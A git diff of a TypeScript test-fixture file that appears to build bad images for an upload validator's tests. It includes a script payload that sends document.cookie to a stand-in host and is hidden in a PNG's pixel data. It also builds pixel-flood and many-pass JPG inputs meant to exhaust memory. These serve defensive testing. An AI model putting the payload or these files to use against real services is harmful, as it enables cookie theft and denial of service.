@@ -1,29 +1,11 @@
-import { crc32, deflateSync } from 'node:zlib';
+import { deflateSync } from 'node:zlib';
 import { drawing, goodJpeg, goodPng } from './pictures.ts';
+import { chunk, PNG_END as END, greyPng, header, PNG_SIGNATURE as SIGNATURE } from './png.ts';
 
 const latin = (text: string) => Buffer.from(text, 'latin1');
 const hex = (text: string) => Buffer.from(text.replaceAll(' ', ''), 'hex');
 
 const SCRIPT = '<script>fetch("https://canary.example/"+document.cookie)</script>';
-const SIGNATURE = goodPng.subarray(0, 8);
-const END = goodPng.subarray(-12);
-
-/** A piece of a PNG. */
-function chunk(name: string, data: Buffer): Buffer {
-  const [length, checksum] = [Buffer.alloc(4), Buffer.alloc(4)];
-  length.writeUInt32BE(data.length);
-  checksum.writeUInt32BE(crc32(data, crc32(name)));
-  return Buffer.concat([length, latin(name), data, checksum]);
-}
-
-function header(width: number, height: number, colours = 2): Buffer {
-  const data = Buffer.alloc(13);
-  data.writeUInt32BE(width, 0);
-  data.writeUInt32BE(height, 4);
-  data.set([8, colours], 8);
-  return chunk('IHDR', data);
-}
-
 /** A copy with some bytes changed. */
 function changed(file: Buffer, at: number, ...bytes: number[]): Buffer {
   const copy = Buffer.from(file);
@@ -31,10 +13,29 @@ function changed(file: Buffer, at: number, ...bytes: number[]): Buffer {
   return copy;
 }
 
-/** A PNG of one grey that has as many pixels as it says. */
-function greyPng(width: number, height: number): Buffer {
-  const rows = deflateSync(Buffer.alloc((width + 1) * height), { level: 1 });
-  return Buffer.concat([SIGNATURE, header(width, height, 0), chunk('IDAT', rows), END]);
+/** A segment of a JPG. */
+function segment(marker: number, ...data: number[]): Buffer {
+  const length = data.length + 2;
+  return Buffer.from([0xff, marker, length >> 8, length & 0xff, ...data]);
+}
+
+/** A progressive JPG of 64 by 64 grey pixels that is gone over so many times, each time for one bit of one coefficient. */
+function jpegOfScans(scans: number): Buffer {
+  const tables = [
+    segment(0xdb, 0, ...Array<number>(64).fill(1)),
+    segment(0xc2, 8, 0, 64, 0, 64, 1, 1, 0x11, 0),
+    segment(0xc4, 0x00, 1, ...Array<number>(15).fill(0), 0),
+    segment(0xc4, 0x10, 1, 1, ...Array<number>(14).fill(0), 0xe0, 0x00),
+  ];
+  const scan = (from: number, to: number, bits: number, data: Buffer) =>
+    Buffer.concat([segment(0xda, 1, 1, 0, from, to, bits), data]);
+  const passes = Array.from({ length: scans - 1 }, (_, pass) => {
+    const [coefficient, bit] = [1 + Math.floor(pass / 14), 13 - (pass % 14)];
+    const bits = bit === 13 ? bit : ((bit + 1) << 4) | bit;
+    // Each of the 64 blocks ends at once.
+    return scan(coefficient, coefficient, bits, Buffer.alloc(16, 0xaa));
+  });
+  return Buffer.concat([hex('ff d8'), ...tables, scan(0, 0, 0, Buffer.alloc(8)), ...passes, hex('ff d9')]);
 }
 
 const FRAME = goodJpeg.indexOf(Buffer.from([0xff, 0xc0]));
@@ -104,16 +105,34 @@ const broken: Record<string, Buffer> = {
   'half a JPG': goodJpeg.subarray(0, goodJpeg.length / 2),
   'a JPG without its tables': changed(goodJpeg, 20, ...Buffer.alloc(200)),
   'a PNG without a size': Buffer.concat([SIGNATURE, chunk('IDAT', deflateSync(Buffer.alloc(99))), END]),
-  'a PNG of no width': Buffer.concat([SIGNATURE, header(0, 40), END]),
+  'a PNG of no width': Buffer.concat([SIGNATURE, header(0, 40, 8, 2), END]),
   'a PNG whose checksums are wrong': changed(goodPng, 29, 0, 0, 0, 0),
+  'a JPG of eight hundred passes': jpegOfScans(800),
   'a PNG whose pixels are no pixels': Buffer.concat([goodPng.subarray(0, 33), chunk('IDAT', latin(SCRIPT)), END]),
 };
 
 /** Small files of very many pixels. */
 const tooManyPixels: Record<string, Buffer> = {
   'a PNG of 48 million pixels': greyPng(8000, 6000),
-  'a PNG of one endless line': Buffer.concat([SIGNATURE, header(41_000_000, 1), chunk('IDAT', deflateSync('')), END]),
+  'a PNG of one endless line': Buffer.concat([
+    SIGNATURE,
+    header(41_000_000, 1, 8, 2),
+    chunk('IDAT', deflateSync('')),
+    END,
+  ]),
   'a JPG of 64 million pixels': hugeJpeg,
+  'an interlaced PNG that takes 288 MB to read': Buffer.concat([
+    SIGNATURE,
+    header(6000, 6000, 16, 6, 0, 0, 1),
+    chunk('IDAT', deflateSync('')),
+    END,
+  ]),
+};
+
+/** Few pixels for their length. */
+const tooLong: Record<string, Buffer> = {
+  'a PNG one pixel wide and forty million high': greyPng(1, 40_000_000),
+  'a PNG of 20,001 columns': greyPng(20_001, 1),
 };
 
 const tooLarge: Record<string, Buffer> = {
@@ -124,10 +143,14 @@ const tooLarge: Record<string, Buffer> = {
 const named = (files: Record<string, Buffer>, sentence: RegExp) =>
   Object.entries(files).map(([what, content]) => ({ what, content, sentence }));
 
+/** A progressive JPG of as many passes as encoders make. */
+export const progressiveJpeg = jpegOfScans(15);
+
 /** Files that are no picture to be taken, each with what its sender is told. */
 export const badFiles = [
   ...named(otherTypes, /^Please choose/),
   ...named(broken, /is damaged/),
-  ...named(tooManyPixels, /40 million pixels/),
+  ...named(tooManyPixels, /[34]0 million pixels/),
+  ...named(tooLong, /at most 20000 pixels/),
   ...named(tooLarge, /at most 5 MB/),
 ];
